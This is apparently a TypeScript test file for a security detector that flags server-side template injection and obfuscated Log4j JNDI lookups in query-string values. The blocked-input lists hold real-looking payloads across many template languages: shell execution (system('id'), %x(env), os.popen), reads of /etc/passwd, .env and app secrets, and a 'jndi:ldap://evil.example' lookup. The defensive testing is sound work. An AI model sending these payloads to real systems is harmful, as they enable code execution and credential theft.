// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the templates' own notation.
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cpuMs } from '../../testing/cpu-time.js';
import { decode } from '../../values/decode.js';
import { deedOf } from './expression.js';
import { findReachingLookup } from './lookups.js';
import { template } from './template.js';

const CONTEXT = { source: 'qs_values' as const, path: 'q', steps: [], executables: new Set<string>() };

function certainty(text: string): string {
  const said = decode({ source: 'qs_values', path: 'q', text }, { base64: true }).flatMap((form) =>
    template.applies(form.classes) ? (template.detect(form.text, CONTEXT)?.certainty ?? []) : [],
  );
  return said.includes('certain') ? 'certain' : (said[0] ?? 'none');
}

function fixture(name: string): string[] {
  const file = readFileSync(join(__dirname, 'fixtures', name), 'utf8');
  return file
    .split('\n')
    .filter((line) => line !== '' && !line.startsWith('// '))
    .map((line) => JSON.parse(`"${line.replaceAll('"', '\\"')}"`) as string);
}

describe('template: fixtures', () => {
  it.each(fixture('attacks.txt'))('blocks %j', (text) => {
    expect(certainty(text)).toBe('certain');
  });
  it.each(fixture('benign.txt'))('passes %j', (text) => {
    expect(certainty(text)).not.toBe('certain');
  });
});

describe('template: what an expression does', () => {
  it.each([
    ['name', 'plain'],
    ['user.name', 'plain'],
    ['price * 2', 'plain'],
    ['total()', 'plain'],
    ['7*7', 'compute'],
    ['"a".length()', 'compute'],
    ['1', 'plain'],
    ['"text"', 'plain'],
    ['7 - x', 'plain'],
    ['x.constructor.y', 'reach'],
    ['x["const"+"ructor"]', 'reach'],
    ["x|attr('y')", 'reach'],
    ['a ? b : c', 'plain'],
  ])('%s: %s', (source, deed) => {
    expect(deedOf(source)).toBe(deed);
  });
});

describe('template: look-ups are evaluated as Log4j does', () => {
  const letters = fc.constantFrom<(letter: string) => string>(
    (letter) => letter,
    (letter) => `\${lower:${letter.toUpperCase()}}`,
    (letter) => `\${upper:${letter}}`,
    (letter) => `\${::-${letter}}`,
    (letter) => `\${env:NONE:-${letter}}`,
    (letter) => `\${sys:none:-\${lower:${letter}}}`,
    (letter) => `\${date:'${letter}'}`,
  );
  it('however its letters are hidden', () => {
    fc.assert(
      fc.property(fc.array(letters, { minLength: 10, maxLength: 10 }), (hide) => {
        const hidden = [...'jndi:ldap:']
          .map((letter, index) => (letter === ':' ? letter : (hide[index]?.(letter) ?? letter)))
          .join('');
        expect(findReachingLookup(`\${${hidden}//evil.example/a}`)?.written.toLowerCase()).toBe(
          'jndi:ldap://evil.example/a',
        );
      }),
    );
  });
});

describe('template: every delimiter holds every probe and every way out', () => {
  const delimiters = [
    '${X}',
    '#{X}',
    '*{X}',
    '@{X}',
    '%{X}',
    '{{X}}',
    '{{ X }}',
    '{{{X}}}',
    '{{=X}}',
    '<%= X %>',
    '<%=X%>',
    '{% X %}',
    '~{X}',
  ];
  const inside = [
    '7*7',
    '1337+1',
    "'a'.__class__",
    'x.constructor.constructor("return 1")()',
    'T(java.lang.Runtime).getRuntime()',
    "require('child_process')",
    "system('id')",
    'process.env',
    "''.getClass()",
  ];
  const frames = ['X', 'foo X bar', 'aXb', '"X"', "'-X-'", 'https://example.org/?q=X', '<p>X</p>'];
  it.each(delimiters)('%s', (delimiter) => {
    const missed = inside.flatMap((expression) =>
      frames
        .map((frame) => frame.replace('X', () => delimiter.replace('X', () => expression)))
        .filter((text) => certainty(text) !== 'certain'),
    );
    expect(missed).toEqual([]);
  });
});

describe('template: what a developer reads', () => {
  it('shows the look-up as it is evaluated', () => {
    expect(template.detect('${${lower:J}ndi:ldap://evil.example}', CONTEXT)?.explanation).toContain(
      '"jndi:ldap://evil.example"',
    );
  });
});

describe('template: by language', () => {
  it.each([
    // Liquid
    '{% for a in (1..99999) %}{% for b in (1..99999) %}x{% endfor %}{% endfor %}',
    '{% assign x = "/app/config.json" %}{% layout x %}',
    "{% render '../../config' %}",
    '{{ session | jsonify }}',
    '{% for x in session %}{{ x }}{% endfor %}',
    // Handlebars
    '{{#each this}}{{@key}}={{this}}{{/each}}',
    '{{#each @root}}{{@key}}{{/each}}',
    '{{#with this as |x|}}{{x}}{{/with}}',
    '{{lookup (lookup this "session") "token"}}',
    '{{@root.secret}}',
    // Velocity
    '#set($x=$secret)$x',
    '#macro(a)#set($z=7*2)$z#end#a()',
    '#if(1==3)a#{else}b#end',
    '#foreach($i in [1..500])$i#end',
    "#include('.env')",
    '$request.getServletContext().getRealPath("/")',
    // Ruby
    '<%- %x(id) -%>',
    '#{%x(env)}',
    '#{self.instance_variables}',
    '<%= Rails.application.secrets %>',
    '= %x(env)',
    "= Dir.entries('/')",
    // Smarty, Twig
    "{include file='/etc/passwd'}",
    '{fetch file="file:///app/config.json"}',
    "{'id'|file_get_contents}",
    "{if shell_exec('id')}{/if}",
    "{{source('.env')}}",
    // Python
    '{{handler.application.settings}}',
    "{{open('.env').read()}}",
    '<?python from os import popen ?>',
    "% import os\n${os.popen('id').read()}",
    "{{ [][['__cl','ass__']|join] }}",
    // Java
    '#{facesContext.getExternalContext().redirect("//a.example")}',
    "x[@environment.getProperty('a').getClass().getClassLoader()]",
    "#this.getClass().forName('javax.script.ScriptEngineManager')",
    // Freemarker
    '${.data_model}',
    '${.vars["x"]}',
    // .NET
    '@System.Diagnostics.Process.Start("calc")',
    '@(System.IO.File.ReadAllText("x"))',
    '@DateTime.Now.ToString()',
    '@(7*7)',
    // JavaScript
    '<%_ 5*8 _%>',
    '<% var x = 6*7; %><%= x %>',
    '<%process/**/.exit()%>',
    // A probe that is put into words
    'slow{{7*7}}warm paper and a lot of other words around it that nobody needs to read',
  ])('blocks %j', (text) => {
    expect(certainty(text)).toBe('certain');
  });

  it.each([
    '{% for i in (1..5) %}{{ i }}{% endfor %}',
    '{% for product in collection.products %}{{ product.title }}{% endfor %}',
    '{% include header.html %}{% render block %}',
    '{% assign logo = "/images/logo.png" %}{{ logo }}',
    '{{#each items}}{{this}}, {{@index}}{{/each}}',
    '{{#with author}}{{firstName}}{{/with}}',
    '{{lookup ../cities @index}}',
    '#if (a == 1) then b',
    '#include "stdio.h"',
    '#define (x)',
    '= 5 % of the total',
    '= self service',
    '% of people',
    '{include file="header.tpl"}',
    '{if $user}Hello{/if}',
    "${lookup mysql{select a from b where id='c'}}",
    '@Request a quote',
    'mail@system.example.org, @System and @DateTime',
    'In Jinja you write {{ 7*7 }} to see what the engine makes out of it',
    '{{ settings.colour }}',
  ])('passes %j', (text) => {
    expect(certainty(text)).not.toBe('certain');
  });
});

describe('template: any text', () => {
  const alphabet = fc.constantFrom(
    ...'${}%<>#@*()[]\'"`.|:-= 7a',
    '${',
    '{{',
    '}}',
    '<%',
    '%>',
    '7*7',
    'jndi:',
    '__class__',
    '<!--#',
    '#set($a=',
  );
  it('is judged without a throw, inside its bounds', () => {
    fc.assert(
      fc.property(fc.string({ unit: alphabet, maxLength: 160 }), (text) => {
        const found = template.detect(text, CONTEXT);
        if (found === undefined) return;
        expect(found.start).toBeGreaterThanOrEqual(0);
        expect(found.end).toBeLessThanOrEqual(text.length);
        expect(found.start).toBeLessThanOrEqual(found.end);
      }),
      { numRuns: 3000 },
    );
  });

  it.each([
    '{',
    '}',
    '${',
    '{{a}}',
    '${a}',
    '<%',
    '<%=a%>',
    '{{',
    '{%a%}',
    '#set(',
    '<!--#',
    '<esi:',
    '$a.',
    'T(',
    '@a.',
    '${a:-',
    '(#a=',
    '{{"a',
    '<#if ',
    '{7*',
    '${{',
    '<?(',
    '{#(',
    '@a{(',
    '[php]((',
    '{~((',
    '{a b="(',
    '$a.b(',
    '<%%>',
    'a',
  ])('takes time linear in the length of repeated %j', (unit) => {
    const text = `x ${unit.repeat(1_000_000 / unit.length)}`;
    const start = cpuMs();
    template.detect(text, CONTEXT);
    expect(cpuMs() - start).toBeLessThan(3_000);
  });
});
